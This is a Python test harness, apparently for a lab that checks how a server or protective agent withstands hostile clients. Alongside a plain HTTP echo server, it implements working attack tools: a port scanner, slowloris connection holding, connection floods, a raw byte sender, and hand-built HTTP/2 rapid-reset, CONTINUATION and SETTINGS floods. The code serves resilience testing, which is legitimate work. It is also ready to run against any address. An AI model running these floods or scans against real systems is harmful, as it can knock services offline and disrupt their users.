"""Hostile clients and a plain HTTP server for the lab's hostile-input tests.

Standard library only. Every client subcommand prints one JSON object on stdout.

  hostile.py serve --listen IP:PORT
      HTTP/1.1 server (threads): any method answers 200 with a JSON body
      {"headers": [[name, value], ...], "body_len": N}; `/sleep/<ms>` waits first.
      `GET /count` answers {"requests": N, "lines": [...]}: every request line the
      server has parsed so far (also those it rejected), `GET /count` excluded.
  hostile.py connect --addr IP:PORT [--send TEXT] [--timeout S]
      One connection: how it ended ("refused", "reset", "eof", "data", "timeout")
      and after how many ms.
  hostile.py scan --ip IP --ports A-B [--timeout S]
      A connect to each port (one after another): outcome counts and the slowest ms.
  hostile.py hold --addr IP:PORT --count N --seconds S [--slowloris]
      Opens N connections (idle, or sending a request head one byte per second) and
      keeps them for S seconds: how many were accepted, refused/reset at once, and
      closed by the far end later (with the median ms at which they were).
  hostile.py loop --addr IP:PORT --interval-ms I --seconds S
      A GET on a new connection every I ms for S seconds: {"ok": N, "failed": N,
      "errors": [...first few]}.
  hostile.py raw --addr IP:PORT (--data-hex HEX | --data-file PATH) [--timeout S]
               [--read-all]
      Sends the bytes, reads the answer until EOF or timeout: status code and body.
      `--read-all` reads on past the first response until EOF, reset or timeout and
      adds "statuses" (every response's status, in order) and "closed" (the far end
      closed or reset the connection before the timeout).
  hostile.py h2 --addr IP:PORT --mode MODE [--count N] [--wait S]
                [--batch B --pause-ms P]
      HTTP/2 with prior knowledge, frames built by hand: the preface and SETTINGS
      (the server's SETTINGS are ACKed), then MODE:
        rapid-reset   N streams, each HEADERS (GET /) at once followed by RST_STREAM
                      (with --batch: B streams at a time, P ms apart, so the server
                      takes each stream up before its reset arrives)
        continuation  one HEADERS without END_HEADERS, then N CONTINUATION frames
        settings      N SETTINGS frames, without waiting for their ACKs
      Frames are read while sending. Right after the last one, unless a GOAWAY or
      the end of the connection came already, one more request (GET /count) on a
      new stream says whether the connection still serves; then a GOAWAY or the end
      is waited for a moment more (S seconds in all).
      Reports the outcome ("goaway", "closed", "reset" or "open"), the GOAWAY (code,
      name, last stream, debug data), ms from the last frame sent to the end, frames
      received by type, SETTINGS ACKs, RST_STREAMs, and the follow-up's :status.
"""

import argparse
import errno
import json
import select
import socket
import statistics
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer


def addr(s):
    host, port = s.rsplit(":", 1)
    return host.strip("[]"), int(port)


def now_ms():
    return time.monotonic() * 1000.0


def outcome_of(err):
    if isinstance(err, socket.timeout):
        return "timeout"
    if isinstance(err, ConnectionRefusedError):
        return "refused"
    if isinstance(err, (ConnectionResetError, BrokenPipeError)):
        return "reset"
    if isinstance(err, OSError) and err.errno == errno.ECONNREFUSED:
        return "refused"
    return "error:" + type(err).__name__


def one_connect(target, send, timeout):
    start = now_ms()
    s = socket.socket(socket.AF_INET6 if ":" in target[0] else socket.AF_INET)
    s.settimeout(timeout)
    try:
        s.connect(target)
        if send:
            s.sendall(send.encode())
        data = s.recv(65536)
        return ("data" if data else "eof"), now_ms() - start
    except Exception as e:  # noqa: BLE001 - the outcome is what we report
        return outcome_of(e), now_ms() - start
    finally:
        s.close()


def cmd_connect(a):
    out, ms = one_connect(addr(a.addr), a.send, a.timeout)
    print(json.dumps({"outcome": out, "ms": ms}))


def cmd_scan(a):
    lo, hi = (int(x) for x in a.ports.split("-"))
    counts, slowest = {}, 0.0
    for port in range(lo, hi + 1):
        out, ms = one_connect((a.ip, port), "", a.timeout)
        counts[out] = counts.get(out, 0) + 1
        slowest = max(slowest, ms)
    print(json.dumps({"counts": counts, "slowest_ms": slowest}))


def cmd_hold(a):
    target = addr(a.addr)
    socks, failed_at_once = [], 0
    for _ in range(a.count):
        s = socket.socket(socket.AF_INET)
        s.settimeout(5)
        try:
            s.connect(target)
            if a.slowloris:
                # The request line and a first field at once, right after the connect
                # (so the agent detects HTTP), then the rest one byte per second.
                s.sendall(b"GET / HTTP/1.1\r\nHost: victim\r\n")
            s.setblocking(False)
            socks.append(s)
        except Exception:  # noqa: BLE001
            failed_at_once += 1
            s.close()
    start = now_ms()
    # Let a reset sent right after the handshake arrive before counting survivors.
    time.sleep(0.5)
    closed = {}
    head = b"X-Slow: " + b"a" * 10000
    pos = 0
    while now_ms() - start < a.seconds * 1000:
        for i, s in enumerate(socks):
            if i in closed:
                continue
            try:
                if s.recv(4096) == b"":
                    closed[i] = now_ms() - start
            except BlockingIOError:
                pass
            except OSError:
                closed[i] = now_ms() - start
            if a.slowloris and i not in closed and pos < len(head):
                try:
                    s.send(head[pos:pos + 1])
                except BlockingIOError:
                    pass
                except OSError:
                    closed[i] = now_ms() - start
        pos += 1
        time.sleep(1.0 if a.slowloris else 0.2)
    early = sum(1 for t in closed.values() if t < 600)
    later = [t for t in closed.values() if t >= 600]
    print(json.dumps({
        "opened": len(socks),
        "failed_at_once": failed_at_once,
        "reset_at_once": early,
        "closed_later": len(later),
        "closed_later_median_ms": statistics.median(later) if later else None,
        "still_open": len(socks) - len(closed),
    }))
    for s in socks:
        s.close()


def cmd_loop(a):
    target = addr(a.addr)
    ok, failed, errors = 0, 0, []
    end = now_ms() + a.seconds * 1000
    while now_ms() < end:
        s = socket.socket(socket.AF_INET6 if ":" in target[0] else socket.AF_INET)
        s.settimeout(5)
        try:
            s.connect(target)
            s.sendall(b"GET /loop HTTP/1.1\r\nHost: victim\r\nConnection: close\r\n\r\n")
            data = b""
            while True:
                chunk = s.recv(65536)
                if not chunk:
                    break
                data += chunk
            if data.startswith(b"HTTP/1.1 200"):
                ok += 1
            else:
                failed += 1
                errors.append(data[:80].decode("utf-8", "replace"))
        except Exception as e:  # noqa: BLE001
            failed += 1
            errors.append(repr(e))
        finally:
            s.close()
        time.sleep(a.interval_ms / 1000.0)
    print(json.dumps({"ok": ok, "failed": failed, "errors": errors[:5]}))


def parse_responses(data):
    """Statuses of the complete HTTP/1 responses at the start of `data`, in order, and
    whether the bytes end on a response boundary."""
    statuses, rest = [], data
    while rest.startswith(b"HTTP/"):
        head, sep, body = rest.partition(b"\r\n\r\n")
        if not sep:
            return statuses, False
        lines = head.split(b"\r\n")
        try:
            status = int(lines[0].split(b" ", 2)[1])
        except (IndexError, ValueError):
            return statuses, False
        statuses.append(status)
        length, chunked = None, False
        for line in lines[1:]:
            k, _, v = line.partition(b":")
            k = k.strip().lower()
            if k == b"content-length":
                length = int(v.strip())
            elif k == b"transfer-encoding" and b"chunked" in v.lower():
                chunked = True
        if chunked:
            pos = 0
            while True:
                eol = body.find(b"\r\n", pos)
                if eol < 0:
                    return statuses, False
                size = int(body[pos:eol].split(b";")[0], 16)
                pos = eol + 2 + size + 2
                if size == 0:
                    break
            rest = body[pos:]
        elif length is not None or 100 <= status < 200 or status in (204, 304):
            rest = body[length or 0:]
        else:
            return statuses, True  # delimited by the end of the connection
    return statuses, not rest


def cmd_raw(a):
    target = addr(a.addr)
    s = socket.socket(socket.AF_INET6 if ":" in target[0] else socket.AF_INET)
    s.settimeout(a.timeout)
    start = now_ms()
    data = b""
    try:
        s.connect(target)
        if a.data_file:
            with open(a.data_file, "rb") as f:
                s.sendall(f.read())
        else:
            s.sendall(bytes.fromhex(a.data_hex))
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
            if a.read_all:
                continue
            head, sep, body = data.partition(b"\r\n\r\n")
            if sep:
                length = None
                for line in head.split(b"\r\n")[1:]:
                    k, _, v = line.partition(b":")
                    if k.strip().lower() == b"content-length":
                        length = int(v.strip())
                if length is not None and len(body) >= length:
                    break
        outcome = "eof"
    except Exception as e:  # noqa: BLE001
        outcome = outcome_of(e)
        if a.read_all and outcome == "reset" and not data:
            # The answer may still be queued although sending hit the reset.
            try:
                s.settimeout(0.5)
                while True:
                    chunk = s.recv(65536)
                    if not chunk:
                        break
                    data += chunk
            except Exception:  # noqa: BLE001
                pass
    finally:
        s.close()
    head, _, body = data.partition(b"\r\n\r\n")
    status = None
    if data.startswith(b"HTTP/"):
        status = int(head.split(b" ", 2)[1])
    report = {
        "outcome": outcome,
        "status": status,
        "ms": now_ms() - start,
        "body": body.decode("utf-8", "replace"),
    }
    if a.read_all:
        report["statuses"], _ = parse_responses(data)
        report["closed"] = outcome in ("eof", "reset")
    print(json.dumps(report))


# Every request line the server parsed (also rejected ones), `GET /count` excluded.
SEEN = []
SEEN_LOCK = threading.Lock()


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args):
        pass

    def parse_request(self):
        ok = super().parse_request()
        if not (ok and self.command == "GET" and self.path == "/count"):
            with SEEN_LOCK:
                SEEN.append(self.requestline)
        return ok

    def answer(self):
        if self.command == "GET" and self.path == "/count":
            with SEEN_LOCK:
                body = json.dumps({"requests": len(SEEN), "lines": list(SEEN)}).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
            return
        if self.path.startswith("/sleep/"):
            time.sleep(int(self.path.split("/")[2]) / 1000.0)
        n = 0
        if self.headers.get("Transfer-Encoding", "").lower() == "chunked":
            while True:
                size = int(self.rfile.readline().split(b";")[0], 16)
                self.rfile.read(size + 2)
                n += size
                if size == 0:
                    break
        elif self.headers.get("Content-Length"):
            n = len(self.rfile.read(int(self.headers["Content-Length"])))
        body = json.dumps({"headers": list(self.headers.items()), "body_len": n}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = do_PUT = answer


def cmd_serve(a):
    host, port = addr(a.listen)
    ThreadingHTTPServer.address_family = socket.AF_INET6 if ":" in host else socket.AF_INET
    ThreadingHTTPServer.daemon_threads = True
    server = ThreadingHTTPServer((host, port), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    print("listening", flush=True)
    while True:
        time.sleep(3600)


# --- HTTP/2 by hand (RFC 9113 framing, RFC 7541 HPACK: just what the attacks need) ---

H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, \
    WINDOW_UPDATE, CONTINUATION = range(10)
FRAME_NAMES = ["DATA", "HEADERS", "PRIORITY", "RST_STREAM", "SETTINGS", "PUSH_PROMISE",
               "PING", "GOAWAY", "WINDOW_UPDATE", "CONTINUATION"]
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
H2_ERRORS = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR",
             "SETTINGS_TIMEOUT", "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM",
             "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM",
             "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"]


def h2_frame(ftype, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([ftype, flags]) + \
        stream.to_bytes(4, "big") + payload


def hpack_int(value, prefix_bits, flags=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([flags | value])
    out = [flags | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_str(b):
    return hpack_int(len(b), 7) + b


def hpack_request(path, authority):
    """GET `path` on `authority`: indexed :method/:scheme, literals (not indexed) else."""
    block = b"\x82\x86"  # :method GET, :scheme http
    block += b"\x84" if path == b"/" else hpack_int(4, 4) + hpack_str(path)
    return block + hpack_int(1, 4) + hpack_str(authority)


# HPACK static table entries 8-14 (:status values) and Huffman codes of the digits.
STATIC_STATUS = {8: 200, 9: 204, 10: 206, 11: 304, 12: 400, 13: 404, 14: 500}
HUFFMAN_DIGITS = {(0x0, 5): "0", (0x1, 5): "1", (0x2, 5): "2", (0x19, 6): "3",
                  (0x1a, 6): "4", (0x1b, 6): "5", (0x1c, 6): "6", (0x1d, 6): "7",
                  (0x1e, 6): "8", (0x1f, 6): "9"}


def hpack_status(block):
    """The :status of a response header block when it comes first (as servers send
    it), else None."""
    if not block:
        return None
    b = block[0]
    if b & 0x80:
        return STATIC_STATUS.get(b & 0x7F)
    if b & 0xC0 == 0x40:
        index = b & 0x3F
    elif b & 0xE0 == 0x20:
        return hpack_status(block[1:])  # a dynamic table size update
    else:
        index = b & 0x0F
    if index != 8 or len(block) < 2:
        return None
    huffman, n = block[1] & 0x80, block[1] & 0x7F
    raw = block[2:2 + n]
    if not huffman:
        return int(raw) if raw.isdigit() else None
    bits = "".join(f"{x:08b}" for x in raw)
    digits, pos = "", 0
    while len(digits) < 3 and pos < len(bits):
        for width in (5, 6):
            code = bits[pos:pos + width]
            d = HUFFMAN_DIGITS.get((int(code, 2), width)) if len(code) == width else None
            if d:
                digits += d
                pos += width
                break
        else:
            return None
    return int(digits) if len(digits) == 3 else None


class H2Conn:
    """A non-blocking HTTP/2 client connection that records every frame it receives."""

    def __init__(self, target):
        self.s = socket.socket(socket.AF_INET6 if ":" in target[0] else socket.AF_INET)
        self.s.settimeout(5)
        self.s.connect(target)
        self.s.setblocking(False)
        self.out = bytearray()
        self.inbuf = b""
        self.frames = {}
        self.settings_acks = 0
        self.rst_streams = 0
        self.goaway = None
        self.ended = None  # "closed" or "reset"
        self.ended_at = None
        self.goaway_at = None
        self.send_error = None
        self.sent = 0
        self.queued = 0
        self.statuses = {}  # stream -> :status of its response

    def send(self, data):
        self.out += data
        self.queued += len(data)

    def pump(self, timeout):
        """Writes what is queued and reads what arrived, for at most `timeout` s."""
        if self.ended:
            return
        want_write = bool(self.out) and self.send_error is None
        r, w, _ = select.select([self.s], [self.s] if want_write else [], [], timeout)
        if w:
            try:
                n = self.s.send(self.out[:262144])
                del self.out[:n]
                self.sent += n
            except BlockingIOError:
                pass
            except OSError as e:
                self.send_error = outcome_of(e)
                self.out.clear()
        if r:
            try:
                chunk = self.s.recv(262144)
            except BlockingIOError:
                return
            except OSError as e:
                self.end(outcome_of(e))
                return
            if not chunk:
                self.end("closed")
                return
            self.inbuf += chunk
            self.parse()

    def end(self, how):
        self.ended = "reset" if how == "reset" else "closed"
        self.ended_at = now_ms()

    def parse(self):
        while len(self.inbuf) >= 9:
            length = int.from_bytes(self.inbuf[:3], "big")
            if len(self.inbuf) < 9 + length:
                return
            ftype, flags = self.inbuf[3], self.inbuf[4]
            stream = int.from_bytes(self.inbuf[5:9], "big") & 0x7FFFFFFF
            payload = self.inbuf[9:9 + length]
            self.inbuf = self.inbuf[9 + length:]
            name = FRAME_NAMES[ftype] if ftype < len(FRAME_NAMES) else str(ftype)
            self.frames[name] = self.frames.get(name, 0) + 1
            if ftype == SETTINGS and flags & ACK:
                self.settings_acks += 1
            elif ftype == SETTINGS:
                self.send(h2_frame(SETTINGS, ACK, 0))
            elif ftype == PING and not flags & ACK:
                self.send(h2_frame(PING, ACK, 0, payload))
            elif ftype == RST_STREAM:
                self.rst_streams += 1
            elif ftype == GOAWAY and self.goaway is None:
                code = int.from_bytes(payload[4:8], "big")
                self.goaway = {
                    "last_stream": int.from_bytes(payload[:4], "big") & 0x7FFFFFFF,
                    "code": code,
                    "name": H2_ERRORS[code] if code < len(H2_ERRORS) else str(code),
                    "debug": payload[8:].decode("utf-8", "replace"),
                }
                self.goaway_at = now_ms()
            elif ftype == HEADERS and stream not in self.statuses:
                block = payload
                if flags & 0x8:  # PADDED
                    block = block[1:len(block) - block[0]]
                if flags & 0x20:  # PRIORITY
                    block = block[5:]
                self.statuses[stream] = hpack_status(block)

    def flush(self, deadline):
        """Sends everything queued (reading meanwhile) unless the connection ends."""
        while self.out and not self.ended and self.send_error is None \
                and now_ms() < deadline:
            self.pump(0.05)

    def wait(self, until, deadline):
        while not until() and not self.ended and now_ms() < deadline:
            self.pump(0.05)


def cmd_h2(a):
    target = addr(a.addr)
    authority = a.addr.encode()
    start = now_ms()
    c = H2Conn(target)
    c.send(H2_PREFACE + h2_frame(SETTINGS, 0, 0))
    # The server's SETTINGS first, as a client would (they are ACKed as they come).
    c.wait(lambda: c.frames.get("SETTINGS", 0) > 0, now_ms() + 2000)
    c.flush(now_ms() + 2000)
    n = a.count
    if a.mode == "rapid-reset":
        req = hpack_request(b"/", authority)
        cancel = (8).to_bytes(4, "big")
        for i in range(n):
            sid = 1 + 2 * i
            c.send(h2_frame(HEADERS, END_STREAM | END_HEADERS, sid, req) +
                   h2_frame(RST_STREAM, 0, sid, cancel))
            if a.batch and (i + 1) % a.batch == 0:
                c.flush(now_ms() + a.wait * 1000)
                if c.ended or c.goaway or c.send_error:
                    break
                time.sleep(a.pause_ms / 1000.0)
        next_sid = 1 + 2 * n
    elif a.mode == "continuation":
        c.send(h2_frame(HEADERS, END_STREAM, 1, hpack_request(b"/", authority)))
        field = b"\x00" + hpack_str(b"x-flood") + hpack_str(b"a" * 32)
        for _ in range(n):
            c.send(h2_frame(CONTINUATION, 0, 1, field))
        next_sid = 3
    elif a.mode == "settings":
        for i in range(n):
            # SETTINGS_MAX_CONCURRENT_STREAMS, alternating 100 and 101.
            c.send(h2_frame(SETTINGS, 0, 0, (3).to_bytes(2, "big") +
                            (100 + i % 2).to_bytes(4, "big")))
        next_sid = 1
    else:
        raise SystemExit(f"unknown mode {a.mode}")
    c.flush(now_ms() + a.wait * 1000)
    flood_done = now_ms()
    flood_ms = flood_done - start
    deadline = flood_done + a.wait * 1000
    follow_up = None
    if not c.goaway and not c.ended and c.send_error is None:
        # Right behind the flood: is the connection still served?
        c.send(h2_frame(HEADERS, END_STREAM | END_HEADERS, next_sid,
                        hpack_request(b"/count", authority)))
        c.flush(deadline)
        c.wait(lambda: next_sid in c.statuses or c.goaway, deadline)
        follow_up = {"answered": next_sid in c.statuses,
                     "status": c.statuses.get(next_sid)}
    # A GOAWAY may still be on its way (and the last SETTINGS ACKs).
    c.wait(lambda: c.goaway, min(deadline, now_ms() + 500))
    if c.goaway:
        # Give the server a moment to close after its GOAWAY.
        c.wait(lambda: False, min(deadline, now_ms() + 1000))
    end_at = min(x for x in (c.goaway_at, c.ended_at, now_ms()) if x is not None)
    outcome = "goaway" if c.goaway else (c.ended or "open")
    print(json.dumps({
        "mode": a.mode,
        "count": n,
        "queued_bytes": c.queued,
        "sent_bytes": c.sent,
        "send_error": c.send_error,
        "flood_ms": flood_ms,
        "outcome": outcome,
        "goaway": c.goaway,
        "closed": c.ended,
        "ms_to_end": max(0.0, end_at - flood_done) if outcome != "open" else None,
        "frames": c.frames,
        "settings_acks": c.settings_acks,
        "rst_streams": c.rst_streams,
        "follow_up": follow_up,
        "total_ms": now_ms() - start,
    }))
    c.s.close()


def main():
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="cmd", required=True)
    s = sub.add_parser("serve")
    s.add_argument("--listen", required=True)
    s = sub.add_parser("connect")
    s.add_argument("--addr", required=True)
    s.add_argument("--send", default="")
    s.add_argument("--timeout", type=float, default=5)
    s = sub.add_parser("scan")
    s.add_argument("--ip", required=True)
    s.add_argument("--ports", required=True)
    s.add_argument("--timeout", type=float, default=5)
    s = sub.add_parser("hold")
    s.add_argument("--addr", required=True)
    s.add_argument("--count", type=int, required=True)
    s.add_argument("--seconds", type=float, required=True)
    s.add_argument("--slowloris", action="store_true")
    s = sub.add_parser("loop")
    s.add_argument("--addr", required=True)
    s.add_argument("--interval-ms", type=float, default=100)
    s.add_argument("--seconds", type=float, required=True)
    s = sub.add_parser("raw")
    s.add_argument("--addr", required=True)
    s.add_argument("--data-hex", default="")
    s.add_argument("--data-file", default="")
    s.add_argument("--timeout", type=float, default=5)
    s.add_argument("--read-all", action="store_true")
    s = sub.add_parser("h2")
    s.add_argument("--addr", required=True)
    s.add_argument("--mode", required=True,
                   choices=["rapid-reset", "continuation", "settings"])
    s.add_argument("--count", type=int, default=1000)
    s.add_argument("--wait", type=float, default=5)
    s.add_argument("--batch", type=int, default=0)
    s.add_argument("--pause-ms", type=float, default=1)
    a = p.parse_args()
    {"serve": cmd_serve, "connect": cmd_connect, "scan": cmd_scan, "hold": cmd_hold,
     "raw": cmd_raw, "loop": cmd_loop, "h2": cmd_h2}[a.cmd](a)


if __name__ == "__main__":
    sys.exit(main())
